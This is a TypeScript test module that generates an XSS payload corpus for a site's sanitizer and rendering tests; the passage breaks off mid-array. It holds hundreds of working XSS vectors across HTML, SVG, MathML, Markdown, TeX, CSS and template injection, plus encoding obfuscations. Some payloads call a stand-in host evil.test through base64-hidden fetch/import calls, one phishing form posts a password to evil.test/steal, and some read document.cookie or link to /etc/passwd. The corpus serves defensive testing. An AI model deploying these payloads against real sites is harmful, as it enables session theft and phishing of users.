/**
 * The XSS corpus (issue #7): a few hundred attacks, generated from vectors × wrappers, that the unit tests send
 * through the renderers and tests/e2e/xss.spec.ts sends through every place the site shows text a student, a model
 * or an editor wrote. Every executable part would be noticed if it ran: it calls alert/confirm/prompt, requests
 * http://evil.test/… (a foreign origin), or inserts an `<xss-marker>` element.
 *
 * Plain TypeScript without runtime imports beyond the legacy list, so tools/test-backend/seed-xss.ts (Node's type
 * stripping) can import it as well as Vitest and Playwright.
 */
import { XSS_PAYLOADS } from '../unit/xssPayloads.ts';

export type XssCategory =
  /** `<script>` in its forms. */
  | 'script'
  /** Event-handler attributes (onerror, onload, ontoggle …). */
  | 'event-handler'
  /** `javascript:` / `vbscript:` URLs in HTML attributes. */
  | 'javascript-url'
  /** `data:` URLs. */
  | 'data-url'
  /** Tricks only SVG allows (animate, set, use, foreignObject). */
  | 'svg'
  /** MathML namespace tricks and mutation XSS. */
  | 'mathml'
  /** Markdown links, images, references, autolinks and HTML in Markdown constructs. */
  | 'markdown'
  /** TeX: `\href`, `\url`, `\htmlClass`, `\includegraphics`, macros. */
  | 'latex'
  /** Elements that load, navigate or frame: iframe, object, embed, base, meta refresh, form, link, portal. */
  | 'element'
  /** CSS: `@import`, `url()`, `expression()`. */
  | 'css'
  /** Template-injection shapes: `{{constructor…}}`, `${…}`, `<%= %>`. */
  | 'template'
  /** Breaking out of an attribute, a title, a JSON-LD block or a comment. */
  | 'breakout'
  /** Entity, URL, Unicode and other encodings and obfuscations of the above. */
  | 'encoding';

export interface XssCorpusEntry {
  category: XssCategory;
  /** Unique within the corpus. */
  name: string;
  /** The text as a student, a model or an editor could write it. */
  source: string;
}

/** A foreign origin: any request to it means the page was made to load something it should not. */
export const EVIL_ORIGIN = 'http://evil.test';

/**
 * What a payload's script does if it runs: each is detectable (a dialog, a request to evil.test, an injected
 * element). No quotes, spaces or `=`, so the same action fits an unquoted attribute and a Markdown link.
 */
const ACTIONS = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'alert(document.domain)',
  // atob('Ly9ldmlsLnRlc3QveHNz') === '//evil.test/xss'
  'fetch(atob(/Ly9ldmlsLnRlc3QveHNz/.source))',
  'document.body.append(document.createElement(/xss-marker/.source))',
  // atob('Ly9ldmlsLnRlc3QvaW1wb3J0') === '//evil.test/import'
  'import(atob(/Ly9ldmlsLnRlc3QvaW1wb3J0/.source))',
  'top.alert(document.cookie)',
] as const;

/** The action for the n-th use, so that neighbouring payloads try different ones. */
const act = (n: number): string => ACTIONS[n % ACTIONS.length] ?? 'alert(1)';

const base64 = (text: string): string => btoa(text);

type Template = (js: string) => string;

interface Vector {
  category: XssCategory;
  name: string;
  make: Template;
  /** How many actions to try it with (different sources); 1 when the vector has no script part. */
  variants?: number;
}

/** Raw HTML, SVG, MathML, elements, CSS and breakouts. */
const HTML_VECTORS: Vector[] = [
  // script
  { category: 'script', name: 'script element', make: (js) => `<script>${js}</script>`, variants: 3 },
  { category: 'script', name: 'script with a foreign src', make: () => `<script src=${EVIL_ORIGIN}/x.js></script>` },
  { category: 'script', name: 'upper-case SCRIPT', make: (js) => `<SCRIPT>${js}</SCRIPT>` },
  { category: 'script', name: 'mixed-case ScRiPt', make: (js) => `<ScRiPt>${js}</sCrIpT>` },
  { category: 'script', name: 'script with a slash attribute', make: (js) => `<script/x>${js}</script>` },
  { category: 'script', name: 'script with type module', make: (js) => `<script type=module>${js}</script>` },
  { category: 'script', name: 'nested script tags', make: (js) => `<scr<script>ipt>${js}</scr</script>ipt>` },
  {
    category: 'script',
    name: 'script with a data: src',
    make: (js) => `<script src="data:text/javascript,${js}"></script>`,
  },
  { category: 'script', name: 'unclosed script', make: (js) => `<script>${js}` },
  { category: 'script', name: 'script in a template', make: (js) => `<template><script>${js}</script></template>` },
  { category: 'script', name: 'script in noscript', make: (js) => `<noscript><script>${js}</script></noscript>` },
  {
    category: 'script',
    name: 'script after a comment',
    make: (js) => `<!-- x --><script>${js}</script><!-- y -->`,
  },
  // event handlers
  { category: 'event-handler', name: 'img onerror', make: (js) => `<img src=x onerror=${js}>`, variants: 3 },
  { category: 'event-handler', name: 'img onerror, quoted', make: (js) => `<img src="x" onerror="${js}">` },
  { category: 'event-handler', name: 'img with slashes', make: (js) => `<img/src/onerror=${js}>` },
  { category: 'event-handler', name: 'svg onload', make: (js) => `<svg onload=${js}>`, variants: 2 },
  { category: 'event-handler', name: 'svg/onload', make: (js) => `<svg/onload=${js}>` },
  { category: 'event-handler', name: 'body onload', make: (js) => `<body onload=${js}>` },
  { category: 'event-handler', name: 'details ontoggle', make: (js) => `<details open ontoggle=${js}>` },
  { category: 'event-handler', name: 'input autofocus onfocus', make: (js) => `<input autofocus onfocus=${js}>` },
  {
    category: 'event-handler',
    name: 'textarea autofocus',
    make: (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  },
  { category: 'event-handler', name: 'select autofocus', make: (js) => `<select autofocus onfocus=${js}></select>` },
  { category: 'event-handler', name: 'video source onerror', make: (js) => `<video><source onerror=${js}></video>` },
  { category: 'event-handler', name: 'audio onerror', make: (js) => `<audio src=x onerror=${js}>` },
  { category: 'event-handler', name: 'marquee onstart', make: (js) => `<marquee onstart=${js}>x</marquee>` },
  { category: 'event-handler', name: 'div onpointerover', make: (js) => `<div onpointerover=${js}>hover me</div>` },
  { category: 'event-handler', name: 'b onclick', make: (js) => `<b onclick=${js}>click me</b>` },
  { category: 'event-handler', name: 'a onmouseover', make: (js) => `<a onmouseover=${js}>hover</a>` },
  { category: 'event-handler', name: 'frameset onload', make: (js) => `<frameset onload=${js}>` },
  { category: 'event-handler', name: 'style onload', make: (js) => `<style onload=${js}></style>` },
  {
    category: 'event-handler',
    name: 'custom element onfocus',
    make: (js) => `<xss-marker tabindex=1 autofocus onfocus=${js}>`,
  },
  { category: 'event-handler', name: 'object onerror', make: (js) => `<object data=x onerror=${js}></object>` },
  { category: 'event-handler', name: 'img onerror after a newline', make: (js) => `<img src=x\nonerror=${js}>` },
  { category: 'event-handler', name: 'img onerror after a tab', make: (js) => `<img\tsrc=x\tonerror=${js}>` },
  { category: 'event-handler', name: 'img onerror after a slash', make: (js) => `<img src=x/onerror=${js}>` },
  { category: 'event-handler', name: 'ONERROR upper case', make: (js) => `<IMG SRC=x ONERROR=${js}>` },
  // javascript: and vbscript: URLs in HTML
  {
    category: 'javascript-url',
    name: 'a href javascript:',
    make: (js) => `<a href="javascript:${js}">x</a>`,
    variants: 2,
  },
  {
    category: 'javascript-url',
    name: 'a href with spaces and mixed case',
    make: (js) => `<a href="  JaVaScRiPt:${js}">x</a>`,
  },
  { category: 'javascript-url', name: 'a href vbscript:', make: () => `<a href="vbscript:msgbox(1)">x</a>` },
  {
    category: 'javascript-url',
    name: 'iframe src javascript:',
    make: (js) => `<iframe src="javascript:${js}"></iframe>`,
  },
  {
    category: 'javascript-url',
    name: 'form button formaction',
    make: (js) => `<form><button formaction="javascript:${js}">go</button></form>`,
  },
  {
    category: 'javascript-url',
    name: 'object data javascript:',
    make: (js) => `<object data="javascript:${js}"></object>`,
  },
  { category: 'javascript-url', name: 'embed src javascript:', make: (js) => `<embed src="javascript:${js}">` },
  {
    category: 'javascript-url',
    name: 'meta refresh to javascript:',
    make: (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  },
  {
    category: 'javascript-url',
    name: 'table background javascript:',
    make: (js) => `<table background="javascript:${js}"><tr><td>x</td></tr></table>`,
  },
  { category: 'javascript-url', name: 'isindex action', make: (js) => `<isindex action=javascript:${js} type=image>` },
  {
    category: 'javascript-url',
    name: 'area href',
    make: (js) => `<map name=m><area shape=rect coords=0,0,9,9 href=javascript:${js}></map>`,
  },
  {
    category: 'javascript-url',
    name: 'base href javascript:',
    make: () => `<base href="javascript:/a/-alert(1)///////">`,
  },
  // data: URLs in HTML
  {
    category: 'data-url',
    name: 'a href data: text/html',
    make: (js) => `<a href="data:text/html;base64,${base64(`<script>${js}</script>`)}">x</a>`,
  },
  {
    category: 'data-url',
    name: 'iframe src data:',
    make: (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  },
  {
    category: 'data-url',
    name: 'object data: base64',
    make: (js) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  },
  {
    category: 'data-url',
    name: 'embed data: svg',
    make: (js) => `<embed src="data:image/svg+xml,<svg onload=${js}>">`,
  },
  {
    category: 'data-url',
    name: 'img src data: svg',
    make: (js) => `<img src="data:image/svg+xml,<svg onload=${js}>">`,
  },
  // SVG
  { category: 'svg', name: 'script inside svg', make: (js) => `<svg><script>${js}</script></svg>` },
  { category: 'svg', name: 'animate onbegin', make: (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>` },
  {
    category: 'svg',
    name: 'animate href to javascript:',
    make: (js) =>
      `<svg><a><animate attributeName=href values=javascript:${js} /><text x=20 y=20>click</text></a></svg>`,
  },
  {
    category: 'svg',
    name: 'set href to javascript:',
    make: (js) => `<svg><a><set attributeName=href to=javascript:${js} /><text y=20>x</text></a></svg>`,
  },
  {
    category: 'svg',
    name: 'xlink:href javascript:',
    make: (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  },
  {
    category: 'svg',
    name: 'foreignObject iframe srcdoc',
    make: (js) => `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
  },
  { category: 'svg', name: 'image from evil.test', make: () => `<svg><image href="${EVIL_ORIGIN}/svg.png" /></svg>` },
  { category: 'svg', name: 'script href', make: () => `<svg><script href="${EVIL_ORIGIN}/svg.js" /></svg>` },
  {
    category: 'svg',
    name: 'use with a data: document',
    make: (js) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js}'/></svg>#x"/></svg>`,
  },
  { category: 'svg', name: 'set onload attribute', make: (js) => `<svg><set attributeName=onload to=${js} />` },
  { category: 'svg', name: 'svg style with img', make: (js) => `<svg><style><img src=x onerror=${js}></style></svg>` },
  { category: 'svg', name: 'discard onbegin', make: (js) => `<svg><discard onbegin=${js} />` },
  // MathML
  {
    category: 'mathml',
    name: 'mglyph style mutation',
    make: (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  },
  { category: 'mathml', name: 'math href', make: (js) => `<math href="javascript:${js}">click</math>` },
  {
    category: 'mathml',
    name: 'maction xlink:href',
    make: (js) => `<math><maction actiontype=statusline xlink:href="javascript:${js}">x</maction></math>`,
  },
  {
    category: 'mathml',
    name: 'link in mtext',
    make: (js) => `<math><mtext><a href="javascript:${js}">x</a></mtext></math>`,
  },
  { category: 'mathml', name: 'mi with onclick', make: (js) => `<math><mi onclick=${js}>x</mi></math>` },
  {
    category: 'mathml',
    name: 'annotation-xml html',
    make: (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  },
  {
    category: 'mathml',
    name: 'mtext style title mutation',
    make: (js) => `<math><mtext><h1><a><style><img src=x onerror=${js}></style></a></h1></mtext></math>`,
  },
  {
    category: 'mathml',
    name: 'noscript title mutation',
    make: (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  },
  {
    category: 'mathml',
    name: 'form math mutation',
    make: (js) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${js}>">`,
  },
  // elements that load, frame or navigate
  { category: 'element', name: 'iframe srcdoc', make: (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>` },
  { category: 'element', name: 'iframe from evil.test', make: () => `<iframe src="${EVIL_ORIGIN}/frame"></iframe>` },
  {
    category: 'element',
    name: 'meta refresh to evil.test',
    make: () => `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/refresh">`,
  },
  { category: 'element', name: 'base href', make: () => `<base href="${EVIL_ORIGIN}/">` },
  {
    category: 'element',
    name: 'form posting to evil.test',
    make: () => `<form action="${EVIL_ORIGIN}/steal" method=post><input name=password><button>Sign in</button></form>`,
  },
  { category: 'element', name: 'object from evil.test', make: () => `<object data="${EVIL_ORIGIN}/o.swf"></object>` },
  { category: 'element', name: 'embed from evil.test', make: () => `<embed src="${EVIL_ORIGIN}/e.swf">` },
  { category: 'element', name: 'link rel=import', make: () => `<link rel=import href="${EVIL_ORIGIN}/import.html">` },
  { category: 'element', name: 'link rel=stylesheet', make: () => `<link rel=stylesheet href="${EVIL_ORIGIN}/s.css">` },
  { category: 'element', name: 'link rel=prefetch', make: () => `<link rel=prefetch href="${EVIL_ORIGIN}/prefetch">` },
  { category: 'element', name: 'img from evil.test', make: () => `<img src="${EVIL_ORIGIN}/pixel.gif">` },
  { category: 'element', name: 'img srcset', make: () => `<img srcset="${EVIL_ORIGIN}/srcset.png 1x">` },
  { category: 'element', name: 'a ping', make: () => `<a ping="${EVIL_ORIGIN}/ping" href="#x">ping</a>` },
  { category: 'element', name: 'portal', make: () => `<portal src="${EVIL_ORIGIN}/portal"></portal>` },
  {
    category: 'element',
    name: 'frameset frame',
    make: () => `<frameset><frame src="${EVIL_ORIGIN}/frame2"></frameset>`,
  },
  { category: 'element', name: 'video poster', make: () => `<video poster="${EVIL_ORIGIN}/poster.png"></video>` },
  { category: 'element', name: 'custom element', make: () => '<xss-marker>injected</xss-marker>' },
  {
    category: 'element',
    name: 'overlay div',
    make: () => '<div class="fixed inset-0 z-50 bg-white">Session expired, sign in again</div>',
  },
  // CSS
  { category: 'css', name: 'style @import', make: () => `<style>@import '${EVIL_ORIGIN}/import.css';</style>` },
  {
    category: 'css',
    name: 'style background url',
    make: () => `<style>body{background:url("${EVIL_ORIGIN}/bg.png")}</style>`,
  },
  {
    category: 'css',
    name: 'inline style url()',
    make: () => `<div style="background:url(${EVIL_ORIGIN}/inline.png)">x</div>`,
  },
  { category: 'css', name: 'CSS expression()', make: (js) => `<div style="width:expression(${js})">x</div>` },
  { category: 'css', name: 'behavior url', make: () => `<div style="behavior:url(${EVIL_ORIGIN}/x.htc)">x</div>` },
  {
    category: 'css',
    name: '-moz-binding',
    make: () => `<div style="-moz-binding:url(${EVIL_ORIGIN}/xbl.xml#x)">x</div>`,
  },
  {
    category: 'css',
    name: 'style with javascript: url',
    make: (js) => `<div style="background-image:url(javascript:${js})">x</div>`,
  },
  {
    category: 'css',
    name: 'style position fixed overlay',
    make: () => '<div style="position:fixed;inset:0;background:red">overlay</div>',
  },
  // breakouts
  { category: 'breakout', name: 'close a double-quoted attribute', make: (js) => `"><script>${js}</script>` },
  { category: 'breakout', name: 'close a single-quoted attribute', make: (js) => `'><img src=x onerror=${js}>` },
  { category: 'breakout', name: 'add an attribute', make: (js) => `" onmouseover="${js}" x="` },
  { category: 'breakout', name: 'add a single-quoted attribute', make: (js) => `' autofocus onfocus='${js}' x='` },
  { category: 'breakout', name: 'close the title', make: (js) => `</title><script>${js}</script>` },
  { category: 'breakout', name: 'close a JSON-LD script', make: (js) => `</script><script>${js}</script>` },
  { category: 'breakout', name: 'close a JSON string and script', make: (js) => `"}</script><script>${js}</script>` },
  { category: 'breakout', name: 'open a comment in JSON-LD', make: (js) => `<!--<script>${js}</script>` },
  { category: 'breakout', name: 'close a comment', make: (js) => `--><script>${js}</script>` },
  { category: 'breakout', name: 'close a textarea', make: (js) => `</textarea><script>${js}</script>` },
  { category: 'breakout', name: 'close a style', make: (js) => `</style><script>${js}</script>` },
  { category: 'breakout', name: 'CDATA', make: (js) => `<![CDATA[<script>${js}</script>]]>` },
  { category: 'breakout', name: 'JS string breakout', make: (js) => `';${js};//` },
  { category: 'breakout', name: 'JS double-quoted string breakout', make: (js) => `";${js};//` },
  { category: 'breakout', name: 'JSON-LD line separator', make: (js) => `\u2028</script>\u2029<script>${js}</script>` },
];

/** Markdown constructs. */
const MARKDOWN_VECTORS: Vector[] = [
  { category: 'markdown', name: 'link to javascript:', make: (js) => `[click](javascript:${js})`, variants: 3 },
  { category: 'markdown', name: 'link to JaVaScRiPt:', make: (js) => `[x](JaVaScRiPt:${js})` },
  { category: 'markdown', name: 'link with a leading space', make: (js) => `[x]( javascript:${js})` },
  { category: 'markdown', name: 'link in angle brackets', make: (js) => `[x](<javascript:${js}>)` },
  { category: 'markdown', name: 'link with an entity colon', make: (js) => `[x](javascript&#58;${js})` },
  { category: 'markdown', name: 'link with &colon;', make: (js) => `[x](javascript&colon;${js})` },
  { category: 'markdown', name: 'link with an entity j', make: (js) => `[x](&#x6A;avascript:${js})` },
  { category: 'markdown', name: 'link with %0a', make: (js) => `[x](java%0ascript:${js})` },
  { category: 'markdown', name: 'link with an escaped colon', make: (js) => `[x](javascript\\:${js})` },
  { category: 'markdown', name: 'link with a title', make: (js) => `[x](javascript:${js} "title")` },
  {
    category: 'markdown',
    name: 'link title with a handler',
    make: (js) => `[x](https://example.com "onmouseover=${js}")`,
  },
  { category: 'markdown', name: 'link title breakout', make: (js) => `[x](https://example.com" onmouseover="${js})` },
  {
    category: 'markdown',
    name: 'link URL with a quote',
    make: (js) => `[x](https://example.com/"onmouseover="${js}")`,
  },
  { category: 'markdown', name: 'link to vbscript:', make: () => '[x](vbscript:msgbox(1))' },
  {
    category: 'markdown',
    name: 'link to a data: page',
    make: (js) => `[x](data:text/html;base64,${base64(`<script>${js}</script>`)})`,
  },
  { category: 'markdown', name: 'link to data: text/html', make: (js) => `[x](data:text/html,<script>${js}</script>)` },
  { category: 'markdown', name: 'link to file:', make: () => '[x](file:///etc/passwd)' },
  { category: 'markdown', name: 'image from javascript:', make: (js) => `![x](javascript:${js})` },
  {
    category: 'markdown',
    name: 'image from data: svg',
    make: (js) =>
      `![x](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)})`,
  },
  { category: 'markdown', name: 'image from evil.test', make: () => `![pixel](${EVIL_ORIGIN}/pixel.png)` },
  { category: 'markdown', name: 'image with a handler in alt', make: (js) => `![" onerror="${js}](x.png)` },
  {
    category: 'markdown',
    name: 'image in a javascript: link',
    make: (js) => `[![x](https://example.com/a.png)](javascript:${js})`,
  },
  {
    category: 'markdown',
    name: 'javascript: image in a link',
    make: (js) => `[![x](javascript:${js})](https://example.com)`,
  },
  {
    category: 'markdown',
    name: 'link inside link text',
    make: (js) => `[a [b](javascript:${js}) c](javascript:${js})`,
  },
  { category: 'markdown', name: 'reference link', make: (js) => `[x][r]\n\n[r]: javascript:${js}` },
  { category: 'markdown', name: 'collapsed reference', make: (js) => `[r][]\n\n[r]: javascript:${js}` },
  { category: 'markdown', name: 'shortcut reference', make: (js) => `[r]\n\n[r]: <javascript:${js}>` },
  { category: 'markdown', name: 'reference image', make: () => `![x][img]\n\n[img]: ${EVIL_ORIGIN}/ref.png` },
  {
    category: 'markdown',
    name: 'reference image to data:',
    make: (js) => `![x][img]\n\n[img]: data:image/svg+xml,<svg onload=${js}>`,
  },
  { category: 'markdown', name: 'autolink javascript:', make: (js) => `<javascript:${js}>` },
  { category: 'markdown', name: 'autolink data:', make: (js) => `<data:text/html,<script>${js}</script>>` },
  { category: 'markdown', name: 'autolink vbscript:', make: () => '<vbscript:msgbox(1)>' },
  { category: 'markdown', name: 'bare javascript: URL', make: (js) => `javascript:${js}` },
  { category: 'markdown', name: 'HTML in link text', make: (js) => `[<img src=x onerror=${js}>](https://example.com)` },
  { category: 'markdown', name: 'HTML in emphasis', make: (js) => `**<img src=x onerror=${js}>**` },
  { category: 'markdown', name: 'HTML in a heading', make: (js) => `# <img src=x onerror=${js}>` },
  { category: 'markdown', name: 'HTML in a setext heading', make: (js) => `<svg onload=${js}>\n===` },
  { category: 'markdown', name: 'HTML in a blockquote', make: (js) => `> <script>${js}</script>` },
  { category: 'markdown', name: 'HTML in a list', make: (js) => `- <img src=x onerror=${js}>` },
  { category: 'markdown', name: 'HTML in an ordered list', make: (js) => `1. <svg onload=${js}>` },
  { category: 'markdown', name: 'HTML block indented in a list', make: (js) => `- item\n\n    <script>${js}</script>` },
  { category: 'markdown', name: 'HTML in a table cell', make: (js) => `| a |\n|---|\n| <img src=x onerror=${js}> |` },
  { category: 'markdown', name: 'HTML in a footnote', make: (js) => `Note[^1]\n\n[^1]: <img src=x onerror=${js}>` },
  {
    category: 'markdown',
    name: 'HTML block with blank lines',
    make: (js) => `<div>\n\n<script>${js}</script>\n\n</div>`,
  },
  {
    category: 'markdown',
    name: 'HTML after a paragraph',
    make: (js) => `Some text\n<iframe srcdoc="<script>${js}</script>"></iframe>`,
  },
  { category: 'markdown', name: 'HTML in inline code', make: (js) => `\`<img src=x onerror=${js}>\`` },
  { category: 'markdown', name: 'HTML in a fenced block', make: (js) => `\`\`\`html\n<script>${js}</script>\n\`\`\`` },
  {
    category: 'markdown',
    name: 'fence with a backtick info string',
    make: (js) => `\`\`\`a\`b\n<script>${js}</script>\n\`\`\``,
  },
  { category: 'markdown', name: 'unclosed fence', make: (js) => `\`\`\`\n<script>${js}</script>` },
  {
    category: 'markdown',
    name: 'tilde fence',
    make: (js) => `~~~\n<img src=x onerror=${js}>\n~~~\n<img src=x onerror=${js}>`,
  },
  {
    category: 'markdown',
    name: 'code span hiding a backtick in HTML',
    make: (js) => `<b title="\`">\`<img src=x onerror=${js}>\``,
  },
  { category: 'markdown', name: 'heading attributes', make: (js) => `# Title {onclick=${js}}` },
  { category: 'markdown', name: 'link with nested brackets', make: (js) => `[[x]](javascript:${js})` },
  { category: 'markdown', name: 'link split over lines', make: (js) => `[x](java\nscript:${js})` },
  { category: 'markdown', name: 'escaped brackets', make: (js) => `\\[x\\](javascript:${js})` },
  { category: 'markdown', name: 'task list with HTML', make: (js) => `- [x] <img src=x onerror=${js}>` },
  { category: 'markdown', name: 'strikethrough around HTML', make: (js) => `~~<svg onload=${js}>~~` },
  { category: 'markdown', name: 'HTML comment hiding script', make: (js) => `<!-- <script>${js}</script> -->` },
  { category: 'markdown', name: 'processing instruction', make: (js) => `<?php ${js} ?>` },
  { category: 'markdown', name: 'declaration', make: (js) => `<!DOCTYPE html><script>${js}</script>` },
  {
    category: 'markdown',
    name: 'front matter',
    make: (js) => `---\ntitle: <script>${js}</script>\n---\n<img src=x onerror=${js}>`,
  },
  {
    category: 'markdown',
    name: 'link definition title',
    make: (js) => `[x][r]\n\n[r]: https://example.com "<img src=x onerror=${js}>"`,
  },
  { category: 'markdown', name: 'linkified www URL with quote', make: (js) => `www.example.com/"onmouseover="${js}"` },
  { category: 'markdown', name: 'email autolink with HTML', make: (js) => `<a@b.c><img src=x onerror=${js}>` },
];

/** TeX inside the Markdown (`$…$`, `$$…$$`, `\(…\)`, `\[…\]`). */
const LATEX_VECTORS: Vector[] = [
  { category: 'latex', name: '\\href javascript:', make: (js) => `$\\href{javascript:${js}}{x}$`, variants: 2 },
  { category: 'latex', name: '\\url javascript:', make: (js) => `$$\\url{javascript:${js}}$$` },
  { category: 'latex', name: '\\href data:', make: (js) => `\\(\\href{data:text/html,<script>${js}</script>}{x}\\)` },
  { category: 'latex', name: '\\url to evil.test', make: () => `\\[\\url{${EVIL_ORIGIN}/tex}\\]` },
  { category: 'latex', name: '\\href display', make: (js) => `$$\n\\href{javascript:${js}}{\\text{click}}\n$$` },
  { category: 'latex', name: '\\htmlClass', make: () => '$\\htmlClass{fixed inset-0 z-50}{x}$' },
  { category: 'latex', name: '\\htmlId', make: () => '$\\htmlId{main}{x}$' },
  { category: 'latex', name: '\\htmlData', make: (js) => `$\\htmlData{onclick=${js}}{x}$` },
  { category: 'latex', name: '\\htmlStyle', make: () => `$\\htmlStyle{background:url(${EVIL_ORIGIN}/tex.png)}{x}$` },
  { category: 'latex', name: '\\style', make: () => '$\\style{position:fixed;inset:0}{x}$' },
  { category: 'latex', name: '\\includegraphics', make: () => `$\\includegraphics{${EVIL_ORIGIN}/graphics.png}$` },
  { category: 'latex', name: 'macro hiding \\href', make: (js) => `$\\def\\x{\\href{javascript:${js}}{y}}\\x$` },
  {
    category: 'latex',
    name: '\\newcommand hiding \\url',
    make: (js) => `$$\\newcommand{\\u}{\\url{javascript:${js}}}\\u$$`,
  },
  { category: 'latex', name: 'HTML in \\text', make: (js) => `$\\text{<script>${js}</script>}$` },
  { category: 'latex', name: 'img in \\text', make: (js) => `$\\text{<img src=x onerror=${js}>}$` },
  { category: 'latex', name: 'closing math in \\mathrm', make: (js) => `$\\mathrm{</math><img src=x onerror=${js}>}$` },
  { category: 'latex', name: 'attribute breakout in \\color', make: (js) => `$\\color{red" onload="${js}}{x}$` },
  {
    category: 'latex',
    name: 'CSS in \\color',
    make: () => `$\\color{red;background:url(${EVIL_ORIGIN}/color.png)}{x}$`,
  },
  { category: 'latex', name: 'HTML in \\operatorname', make: (js) => `$\\operatorname{<svg onload=${js}>}$` },
  {
    category: 'latex',
    name: '\\href in an array',
    make: (js) => `$$\\begin{array}{c}\\href{javascript:${js}}{x}\\end{array}$$`,
  },
  { category: 'latex', name: '\\verb with HTML', make: (js) => `$\\verb|<script>${js}</script>|$` },
  { category: 'latex', name: 'HTML between formulas', make: (js) => `$x$<img src=x onerror=${js}>$y$` },
  { category: 'latex', name: 'Markdown link in \\text', make: (js) => `$\\text{[x](javascript:${js})}$` },
  {
    category: 'latex',
    name: 'HTML attribute opened by math',
    make: (js) => `<a title="$\\mathrm{x}$ onclick=${js}>y</a>`,
  },
  { category: 'latex', name: '\\unicode', make: () => '$\\unicode{60}script\\unicode{62}$' },
  { category: 'latex', name: 'macro expansion bomb', make: () => '$\\def\\a{\\a\\a}\\a$' },
  { category: 'latex', name: 'huge \\rule', make: () => '$\\rule{99999em}{99999em}$' },
  { category: 'latex', name: '\\class', make: () => '$\\class{fixed inset-0}{x}$' },
  { category: 'latex', name: '\\href in \\[', make: (js) => `\\[\\href{javascript:${js}}{y}\\]` },
  { category: 'latex', name: 'math inside a link', make: (js) => `[$x$](javascript:${js})` },
];

const TEMPLATE_VECTORS: Vector[] = [
  { category: 'template', name: 'Angular constructor', make: (js) => `{{constructor.constructor('${js}')()}}` },
  { category: 'template', name: 'Vue constructor', make: (js) => `{{_c.constructor('${js}')()}}` },
  { category: 'template', name: 'template literal', make: (js) => `\${${js}}` },
  { category: 'template', name: 'backtick template literal', make: (js) => `\`\${${js}}\`` },
  { category: 'template', name: 'ERB', make: (js) => `<%= ${js} %>` },
  { category: 'template', name: 'Ruby interpolation', make: (js) => `#{${js}}` },
  { category: 'template', name: 'Jinja', make: () => "{{ ''.__class__.__mro__[1].__subclasses__() }}" },
  {
    category: 'template',
    name: 'Handlebars',
    make: (js) => `{{#with "s" as |string|}}{{string.constructor "${js}"}}{{/with}}`,
  },
  { category: 'template', name: 'Astro expression', make: (js) => `{${js}}` },
  {
    category: 'template',
    name: 'JSX',
    make: (js) => `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${js}>'}} />`,
  },
  {
    category: 'template',
    name: 'set:html directive',
    make: (js) => `<div set:html="<img src=x onerror=${js}>"></div>`,
  },
  { category: 'template', name: 'React javascript: href', make: (js) => `<a href={'javascript:${js}'}>x</a>` },
];

/** Encodings and obfuscations, each applied to a few base payloads. */
interface Wrapper {
  name: string;
  wrap: (source: string) => string;
}

const entities = (text: string, format: (code: number) => string): string =>
  Array.from(text, (character) => format(character.codePointAt(0) ?? 0)).join('');

const ENCODINGS: Wrapper[] = [
  { name: 'HTML-entity escaped', wrap: (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;') },
  { name: 'decimal entities', wrap: (s) => entities(s, (code) => `&#${code};`) },
  { name: 'hex entities', wrap: (s) => entities(s, (code) => `&#x${code.toString(16)};`) },
  { name: 'zero-padded entities', wrap: (s) => s.replace(/[<>:]/g, (c) => `&#0000${c.charCodeAt(0)}`) },
  { name: 'entities without semicolons', wrap: (s) => s.replace(/</g, '&lt').replace(/>/g, '&gt') },
  { name: 'URL-encoded', wrap: (s) => encodeURIComponent(s) },
  { name: 'double URL-encoded', wrap: (s) => encodeURIComponent(encodeURIComponent(s)) },
  { name: 'overlong UTF-8', wrap: (s) => s.replace(/</g, '%C0%BC').replace(/>/g, '%C0%BE') },
  { name: 'JS unicode escapes', wrap: (s) => s.replace(/</g, '\\u003c').replace(/>/g, '\\u003e') },
  { name: 'JS hex escapes', wrap: (s) => s.replace(/</g, '\\x3c').replace(/>/g, '\\x3e') },
  { name: 'full-width brackets', wrap: (s) => s.replace(/</g, '\uFF1C').replace(/>/g, '\uFF1E') },
  { name: 'null byte in the tag', wrap: (s) => s.replace(/<(\w)/, '<$1\u0000') },
  { name: 'null byte before', wrap: (s) => `\u0000${s}` },
  { name: 'zero-width space in the tag', wrap: (s) => s.replace(/<(\w)/, '<\u200B$1') },
  { name: 'zero-width joiner after <', wrap: (s) => s.replace(/</g, '<\u200D') },
  { name: 'byte order mark', wrap: (s) => `\uFEFF${s}` },
  { name: 'right-to-left override', wrap: (s) => `\u202E${s}` },
  { name: 'UTF-7', wrap: (s) => s.replace(/</g, '+ADw-').replace(/>/g, '+AD4-') },
  { name: 'mixed case', wrap: (s) => s.replace(/[a-z]/g, (c, index: number) => (index % 2 ? c.toUpperCase() : c)) },
  { name: 'newline inside the tag', wrap: (s) => s.replace(/<(\w+) /, '<$1\n') },
  { name: 'backtick quotes', wrap: (s) => s.replace(/=([^\s>]+)/, '=`$1`') },
  { name: 'combining mark after <', wrap: (s) => s.replace(/</g, '<\u0338') },
  { name: 'soft hyphen in the name', wrap: (s) => s.replace(/<(\w)(\w)/, '<$1\u00AD$2') },
];

/** The payloads the encodings are applied to: one of each shape. */
const ENCODED_BASES: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=confirm(1)>',
  '<a href="javascript:prompt(1)">x</a>',
  '<iframe src="javascript:alert(document.domain)"></iframe>',
